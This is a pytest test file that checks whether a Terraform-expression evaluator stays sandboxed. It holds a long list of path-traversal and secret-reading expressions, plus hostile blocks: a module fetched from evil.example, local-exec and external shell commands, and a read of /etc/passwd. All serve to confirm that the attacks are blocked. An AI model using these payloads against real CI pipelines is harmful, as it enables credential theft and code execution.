"""Nothing outside the repository is ever read, and nothing of it ever shown, whatever a pull request says.

A canary lies where every attack aims: next to the repository, in the home folder and at an absolute path. It
must appear in no value, no reason, no message, and in no file that Terraform gets to see.
"""

import os
from pathlib import Path
from typing import Any

import pytest
from aftgen.evaluate import Evaluation, evaluate
from aftgen.evaluate import sandbox as sandbox_module
from aftgen.evaluate.terraform import Terraform
from aftgen.reader.folder import read
from aftgen.reader.model import EvaluatedBy, RequestFolder
from aftgen.repository import Repository
from evaluate.real_terraform import MODULE, MODULE_PATH, write
from evaluate.shapes import request

CANARY = "canary-7f3a91"


class Laboratory:
    """A repository with secrets around it, and a watch on what reaches Terraform."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.root = base / "checkout"
        self.secret = base / "secret.txt"
        self.seen: list[bytes] = []
        self.runs = 0
        write(
            base,
            {
                "secret.txt": CANARY,
                "home/secret.txt": CANARY,
                "secrets/a.yaml": f"x: {CANARY}",
                "x.tf": CANARY,
            },
        )
        write(
            self.root,
            {
                ".git/config": f"token = {CANARY}",
                ".env": CANARY,
                "inside.txt": "inside",
                "terraform/inside.txt": "inside",
                "terraform/list/a.txt": "inside",
                **{f"terraform/{MODULE_PATH}/{name}": text for name, text in MODULE.items()},
            },
        )

    def watch(self, monkeypatch: pytest.MonkeyPatch) -> None:
        plan = Terraform.plan

        def watched(terraform: Terraform) -> Any:
            self.runs += 1
            for path in terraform.base.rglob("*"):
                assert not path.is_symlink()
                if path.is_file():
                    self.seen.append(path.read_bytes())
            return plan(terraform)

        monkeypatch.setattr(Terraform, "plan", watched)
        monkeypatch.setenv("HOME", str(self.base / "home"))
        monkeypatch.setenv("TF_VAR_secret", CANARY)
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)

    def evaluate(self, text: str, **files: str) -> Evaluation:
        write(self.root / "terraform", {"main.tf": text, **files})
        repository = Repository(root=self.root, requests=self.root / "terraform")
        return evaluate(repository, read(repository), timeout=30)


@pytest.fixture
def laboratory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Laboratory:
    found = Laboratory(tmp_path)
    found.watch(monkeypatch)
    return found


def _shown(evaluation: Evaluation) -> str:
    """Everything that a caller could print."""
    folder: RequestFolder = evaluation.folder
    return repr(
        [(request.address, request.arguments, request.reason) for request in folder.requests]
        + [(problem.message, problem.address) for problem in evaluation.problems]
        + [evaluation.reason, folder.unreadable]
    )


def _is_kept_out(laboratory: Laboratory, evaluation: Evaluation) -> bool:
    return CANARY not in _shown(evaluation) and not any(CANARY.encode() in data for data in laboratory.seen)


_UP = "../../../../../../../../../../../.."
#: Expressions for an email, with SECRET for the canary's absolute path and UP for a way to the root folder.
_ATTACKS = {
    "absolute path": 'file("SECRET")',
    "way up": 'file("../../secret.txt")',
    "way up from the module": 'file("${path.module}/../../secret.txt")',
    "long way up": 'file("UP/SECRET")',
    "way up from inside": 'file("list/../../../secret.txt")',
    "way up in an escape": 'file("\\u002e\\u002e/../secret.txt")',
    "home": 'file("~/secret.txt")',
    "home by pathexpand": 'file(pathexpand("~/secret.txt"))',
    "absolute by abspath": 'file(abspath("../../secret.txt"))',
    "format": 'file(format("%s%s", "../../sec", "ret.txt"))',
    "join": 'file(join("/", ["..", "..", "secret.txt"]))',
    "replace": 'file(replace("@@/@@/secret.txt", "@@", ".."))',
    "decoded": 'file(base64decode("Li4vLi4vc2VjcmV0LnR4dA=="))',
    "conditional": 'file(true ? "../../secret.txt" : "inside.txt")',
    "local": "file(local.path)",
    "local in a template": 'file("${local.up}/secret.txt")',
    "local by merge": "file(merge({}, { a = local.path }).a)",
    "index": 'file(["../../secret.txt"][0])',
    "loop": '[for f in ["../../secret.txt"] : file(f)][0]',
    "loop over a map": '[for k, v in { "../../secret.txt" = 1 } : file(k)][0]',
    "loop that hides path": '[for path in [{ module = "../.." }] : file("${path.module}/secret.txt")][0]',
    "loop that hides a local": '[for local in [{ path2 = "../../secret.txt" }] : file(local.path2)][0]',
    "template directive": '"%{ for f in ["../../secret.txt"] }${file(f)}%{ endfor }"',
    "directive that hides path": (
        '"%{ for path in [{ module = "../.." }] }${file("${path.module}/secret.txt")}%{ endfor }"'
    ),
    "splat": 'file([{ p = "../../secret.txt" }][*].p...)',
    "spread": 'file(["../../secret.txt"]...)',
    "namespace": 'core::file("../../secret.txt")',
    "comment before the parenthesis": 'file/* ( */("../../secret.txt")',
    "line comment before the parenthesis": '"${[file # (\n("../../secret.txt")][0]}"',
    "base64": 'filebase64("../../secret.txt")',
    "hash": 'filesha256("../../secret.txt")',
    "exists": 'tostring(fileexists("../../secret.txt"))',
    "fileset": 'join(",", fileset("../..", "*.txt"))',
    "fileset by pattern": 'join(",", fileset(".", "../../*.txt"))',
    "fileset of a glob folder": 'join(",", fileset("{..,x}/..", "*.txt"))',
    "file of a fileset": '[for f in fileset("../..", "*.txt") : file("../../${f}")][0]',
    (
        "file of a fileset with a way up"
    ): '[for f in fileset("list", "*.txt") : file("../../${f}/../secret.txt")][0]',
    "templatefile": 'templatefile("../../secret.txt", {})',
    "templatefile that reads": 'templatefile("reads.tftpl", {})',
    "templatefile that reads with a namespace": 'templatefile("namespace.tftpl", {})',
    "templatefile with a variable path": 'templatefile("variable.tftpl", { p = "../../secret.txt" })',
    "templatestring": "templatestring(local.template, {})",
    "git": 'file("../.git/config")',
    "hidden file": 'file("../.env")',
    "hidden files by a set": 'join(",", [for f in fileset("..", "*") : file("../${f}")])',
    "link to a file": 'file("link.txt")',
    "link to a folder": 'file("linked/a.yaml")',
    "fileset of a linked folder": 'join(",", [for f in fileset("linked", "*") : file("linked/${f}")])',
    "fileset above a linked folder": 'join(",", fileset(".", "**"))',
    "terraform code as a file": 'file("code.tf")',
    "provider function": 'provider::local::direxists("/etc")',
    "data source": "data.local_file.secret.content",
    "remote state": "data.terraform_remote_state.x.outputs.y",
    "variable of the environment": "var.secret",
    "ambiguous escape": '"$$${" # " == <<E\nE\n}"',
    "heredoc end that only terraform sees": "[<<E\n\u00a0E\nE\n][0]",
    "working directory": '"${path.cwd}"',
}


@pytest.mark.terraform
@pytest.mark.parametrize("name", _ATTACKS)
def test_attacks_are_not_evaluated(name: str, laboratory: Laboratory) -> None:
    expression = (
        _ATTACKS[name]
        .replace("UP/SECRET", _UP + str(laboratory.secret))
        .replace("SECRET", str(laboratory.secret))
    )
    (laboratory.root / "terraform/link.txt").symlink_to(laboratory.secret)
    (laboratory.root / "terraform/linked").symlink_to(laboratory.base / "secrets")
    (laboratory.root / "terraform/code.tf").symlink_to(laboratory.base / "x.tf")
    evaluation = laboratory.evaluate(
        'locals {\n  path = "../../secret.txt"\n  up = "../.."\n'
        '  template = "$${file(\\"../../secret.txt\\")}"\n}\n'
        'variable "secret" {}\n'
        + request("attack", f"trimspace({expression})")
        + request("honest", '"${upper("a")}@example.com"'),
        **{
            "reads.tftpl": '${file("../../secret.txt")}',
            "namespace.tftpl": '${core::file ("../../secret.txt")}',
            "variable.tftpl": "${file(p)}",
        },
    )
    assert _is_kept_out(laboratory, evaluation)
    found = {request.address: request for request in evaluation.folder.requests}
    if "module.attack" in found:
        assert found["module.attack"].evaluated_by is EvaluatedBy.NOTHING
        assert found["module.attack"].reason
    if "module.honest" in found:
        assert found["module.honest"].email == "A@example.com"


@pytest.mark.terraform
def test_the_canary_would_be_noticed(laboratory: Laboratory) -> None:
    """The watch itself works: a file of the repository does reach Terraform and the values."""
    write(laboratory.root, {"terraform/inside.txt": CANARY})
    evaluation = laboratory.evaluate(request("honest", 'file("inside.txt")'))
    assert evaluation.folder.requests[0].email == CANARY
    assert any(CANARY.encode() in data for data in laboratory.seen)
    assert not _is_kept_out(laboratory, evaluation)


@pytest.mark.terraform
@pytest.mark.parametrize(
    "text",
    [
        'provider "evil" {}\nterraform {\n  required_providers {\n'
        '    evil = { source = "evil.example/a/b" }\n  }\n}\n',
        'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:9/"\n  }\n}\n',
        'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n',
        'data "external" "x" {\n  program = ["sh", "-c", "touch RAN"]\n}\n',
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "touch RAN"\n  }\n}\n',
        'data "terraform_remote_state" "x" {\n  backend = "local"\n'
        '  config = { path = "../../secret.txt" }\n}\n',
        'module "evil" {\n  source = "git::https://evil.example/x.git"\n}\n',
        'check "x" {\n  data "http" "y" {\n    url = "http://127.0.0.1:9/"\n'
        "  }\n  assert {\n    condition = true\n"
        '    error_message = "x"\n  }\n}\n',
        'import {\n  to = aws_vpc.x\n  id = "x"\n}\nephemeral "random_password" "p" {}\n'
        'output "o" {\n  value = file("/etc/passwd")\n}\n',
        "removed {\n  from = aws_vpc.x\n}\nmoved {\n  from = module.a\n  to = module.honest\n}\n",
    ],
)
def test_everything_else_in_the_folder_stays_out(text: str, laboratory: Laboratory) -> None:
    evaluation = laboratory.evaluate(
        text.replace("RAN", str(laboratory.base / "ran")) + request("honest", 'lower("A")')
    )
    assert evaluation.problems == ()
    assert [
        (found.address, found.email)
        for found in evaluation.folder.requests
        if found.address == "module.honest"
    ] == [("module.honest", "a")]
    assert _is_kept_out(laboratory, evaluation)
    assert not (laboratory.base / "ran").exists()
    for word in (b"evil", b"backend", b"provisioner", b"data ", b"external", b"passwd", b"import", b"moved"):
        assert not any(word in data for data in laboratory.seen if b"terraform_data" not in data), word


def test_files_that_are_links_out_of_the_repository_are_not_read(laboratory: Laboratory) -> None:
    (laboratory.root / "terraform/linked.tf").symlink_to(laboratory.base / "x.tf")
    (laboratory.root / "terraform/team").symlink_to(laboratory.base / "secrets")
    write(laboratory.base, {"secrets/main.tf": f"# {CANARY}\n" + request("x", f'"{CANARY}"')})
    write(laboratory.root, {"terraform/main.tf": 'module "team" {\n  source = "./team"\n}\n'})
    folder = read(Repository(root=laboratory.root, requests=laboratory.root / "terraform"))
    assert CANARY not in repr(folder)
    assert [(bad.path, bad.why) for bad in folder.unreadable] == [
        ("terraform/linked.tf", "this is a link that leads out of the repository, it is not read")
    ]


def test_a_request_folder_that_is_a_link_out_of_the_repository_is_not_read(laboratory: Laboratory) -> None:
    (laboratory.root / "other").symlink_to(laboratory.base / "secrets")
    folder = read(Repository(root=laboratory.root, requests=laboratory.root / "other"))
    assert (folder.files, folder.requests) == ((), ())
    assert [bad.why for bad in folder.unreadable] == [
        "this is a link that leads out of the repository, it is not read"
    ]


@pytest.mark.terraform
def test_the_sandbox_is_private_and_gone_afterwards(
    laboratory: Laboratory, monkeypatch: pytest.MonkeyPatch
) -> None:
    modes: list[int] = []
    folders: list[Path] = []
    write_sandbox = sandbox_module.Sandbox.write

    def watched(sandbox: sandbox_module.Sandbox, selection: Any) -> str:
        modes.append(sandbox.base.stat().st_mode & 0o777)
        folders.append(sandbox.base)
        return write_sandbox(sandbox, selection)

    monkeypatch.setattr(sandbox_module.Sandbox, "write", watched)
    evaluation = laboratory.evaluate(request("honest", 'lower("A")'))
    assert evaluation.ran
    assert modes == [0o700]
    assert not folders[0].exists()
    assert str(folders[0]) not in _shown(evaluation)


@pytest.mark.terraform
def test_messages_do_not_name_the_sandbox(laboratory: Laboratory) -> None:
    evaluation = laboratory.evaluate(request("missing", 'file("${path.module}/missing.txt")'))
    (problem,) = evaluation.problems
    assert "missing.txt" in problem.message
    assert "aftgen-evaluate-" not in problem.message
    assert os.sep + "tmp" not in problem.message
